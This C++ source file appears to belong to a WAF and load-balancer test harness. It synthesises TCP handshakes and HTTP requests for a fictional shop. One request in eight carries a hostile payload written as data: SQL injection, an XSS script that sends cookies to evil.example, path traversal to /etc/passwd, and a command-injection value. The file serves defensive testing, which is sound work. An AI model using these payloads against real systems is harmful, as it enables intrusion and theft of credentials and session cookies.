// HTTP request traffic for the WAF path (see traffic.h, synthesise_http).
//
// What gauntlet needs to see before it inspects a request, when the generator plays the
// client: conntrack takes a client's ACK only after the backend's SYN-ACK (as Linux does: an
// ACK in SYN_SENT is invalid), and the WAF's stream reassembly starts at the SYN's sequence
// number. So the generator plays the backend's half of the handshake too: it sends each
// connection's SYN-ACK from the receive port (where gauntlet forwards the SYN after DNAT),
// once, before the trials. That needs a service whose backend it can name in advance: one
// backend (the shipped `shop` service: VIP 198.51.100.12:80 -> 10.0.0.10:80), since with
// several Maglev chooses per flow. After that, every pass over the templates sends each
// connection's next request (keep-alive, no responses needed: the WAF reads the client's
// bytes only), its sequence numbers advanced by one request's length per pass.
#include <algorithm>
#include <string>

#include "tools/trafficgen/traffic.h"

namespace trafficgen {

namespace {

constexpr uint16_t kEth = 14, kIp = 20, kTcp = 20, kMss = 1460;
constexpr uint32_t kClientIsn = 1000, kServerIsn = 7000;
constexpr uint8_t kFlagSyn = 0x02, kFlagAck = 0x10, kFlagPsh = 0x08;

void put16(uint8_t* p, uint32_t v) {
  p[0] = static_cast<uint8_t>(v >> 8);
  p[1] = static_cast<uint8_t>(v);
}
void put32(uint8_t* p, uint32_t v) {
  put16(p, v >> 16);
  put16(p + 2, v & 0xffff);
}

struct Endpoints {
  const uint8_t* dst_mac;
  const uint8_t* src_mac;
  uint32_t src, dst;
  uint16_t sport, dport;
};

// One IPv4 TCP segment (20-byte header, no options) with full checksums.
std::vector<uint8_t> segment(const Endpoints& e, uint32_t seq, uint32_t ack, uint8_t flags,
                             const std::string& payload, size_t offset, size_t len) {
  std::vector<uint8_t> f(std::max<size_t>(60, kEth + kIp + kTcp + len), 0);
  std::copy(e.dst_mac, e.dst_mac + 6, f.begin());
  std::copy(e.src_mac, e.src_mac + 6, f.begin() + 6);
  put16(f.data() + 12, 0x0800);
  uint8_t* ip = f.data() + kEth;
  ip[0] = 0x45;
  put16(ip + 2, static_cast<uint32_t>(kIp + kTcp + len));
  ip[6] = 0x40;  // DF
  ip[8] = 64;
  ip[9] = 6;
  put32(ip + 12, e.src);
  put32(ip + 16, e.dst);
  put16(ip + 10, checksum_fold(checksum_add(ip, kIp)));
  uint8_t* tcp = ip + kIp;
  put16(tcp, e.sport);
  put16(tcp + 2, e.dport);
  put32(tcp + 4, seq);
  put32(tcp + 8, ack);
  tcp[12] = 5 << 4;
  tcp[13] = flags;
  put16(tcp + 14, 65535);
  std::copy(payload.begin() + static_cast<std::ptrdiff_t>(offset),
            payload.begin() + static_cast<std::ptrdiff_t>(offset + len), tcp + kTcp);
  uint32_t acc = checksum_add(ip + 12, 8);
  acc += 6 + kTcp + static_cast<uint32_t>(len);
  put16(tcp + 16, checksum_fold(checksum_add(tcp, kTcp + len, acc)));
  return f;
}

const char* const kBrowser =
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n"
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
    "Accept-Language: en-GB,en;q=0.7\r\nAccept-Encoding: gzip, deflate\r\n";

std::string with_body(const std::string& head, const char* type, const std::string& body) {
  return head + "Content-Type: " + type + "\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\n\r\n" + body;
}

// Request i of the mix: browsing, search, a JSON API call, a form post, a static file; every
// eighth one an attack (SQL injection, XSS, path traversal, command injection), one of four in
// turn. Benign requests follow tools/waf/benign's shapes, attacks the CRS test classes.
std::string request(uint32_t i, const std::string& host) {
  const std::string n = std::to_string(i);
  const std::string h = "Host: " + host + "\r\n" + kBrowser + "Cookie: session=s" + n +
                        "a7f3; theme=dark\r\nConnection: keep-alive\r\n";
  if (i % 8 == 7) {
    switch (i / 8 % 4) {
      case 0:
        return "GET /search?q=shoes%27%20UNION%20SELECT%20username,password%20FROM%20users--%20 "
               "HTTP/1.1\r\n" +
               h + "\r\n";
      case 1:
        return with_body("POST /reviews/" + n + " HTTP/1.1\r\n" + h,
                         "application/x-www-form-urlencoded",
                         "rating=5&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil."
                         "example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E");
      case 2:
        return "GET /download?file=../../../../etc/passwd HTTP/1.1\r\n" + h + "\r\n";
      default:
        return with_body("POST /tools/ping HTTP/1.1\r\n" + h, "application/x-www-form-urlencoded",
                         "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd");
    }
  }
  switch (i % 8) {
    case 0:
    case 4:
      return "GET /products/" + std::to_string(i % 500) +
             "?ref=home&utm_source=newsletter "
             "HTTP/1.1\r\n" +
             h + "\r\n";
    case 1:
      return "GET /search?q=blue+running+shoes+size+" + std::to_string(36 + i % 12) +
             "&sort=price HTTP/1.1\r\n" + h + "\r\n";
    case 2:
      return with_body("POST /api/v1/cart/items HTTP/1.1\r\n" + h, "application/json",
                       "{\"product\": " + std::to_string(i % 500) +
                           ", \"quantity\": 2, \"gift\": false, \"note\": \"leave at the door\"}");
    case 3:
      return with_body("POST /account/login HTTP/1.1\r\n" + h, "application/x-www-form-urlencoded",
                       "email=customer" + n + "%40example.org&password=correct+horse+battery");
    case 5:
      return "GET /static/js/app." + std::to_string(i % 97) + ".js HTTP/1.1\r\n" + h + "\r\n";
    default:
      return "GET /orders/" + n + "/invoice.pdf HTTP/1.1\r\n" + h + "\r\n";
  }
}

}  // namespace

Templates synthesise_http(const SynthSpec& spec) {
  Templates t;
  const std::string host = "shop.example.com";
  for (uint32_t c = 0; c < spec.flows; ++c) {
    const uint32_t client = spec.src_ip + c % 250 + 1;
    const auto port = static_cast<uint16_t>(1024 + c / 250);
    const Endpoints up{spec.dst_mac, spec.src_mac, client, spec.dst_ip, port, spec.dst_port};
    const Endpoints back{spec.rx_dst_mac, spec.rx_src_mac,   spec.backend_ip,
                         client,          spec.backend_port, port};
    const std::string none;
    t.syn.push_back(segment(up, kClientIsn, 0, kFlagSyn, none, 0, 0));
    t.syn_ack.push_back(segment(back, kServerIsn, kClientIsn + 1, kFlagSyn | kFlagAck, none, 0, 0));
    t.ack.push_back(segment(up, kClientIsn + 1, kServerIsn + 1, kFlagAck, none, 0, 0));
    const std::string req = request(c, host);
    for (size_t off = 0; off < req.size(); off += kMss) {
      const size_t len = std::min<size_t>(kMss, req.size() - off);
      t.frames.push_back(segment(up, kClientIsn + 1 + static_cast<uint32_t>(off), kServerIsn + 1,
                                 kFlagAck | kFlagPsh, req, off, len));
      t.stamp_at.push_back(0);
      t.checksum_at.push_back(kEth + kIp + 16);
      t.seq_at.push_back(kEth + kIp + 4);
      t.seq_step.push_back(static_cast<uint32_t>(req.size()));
      t.bytes += t.frames.back().size();
    }
    t.payload_bytes += req.size();
  }
  return t;
}

}  // namespace trafficgen
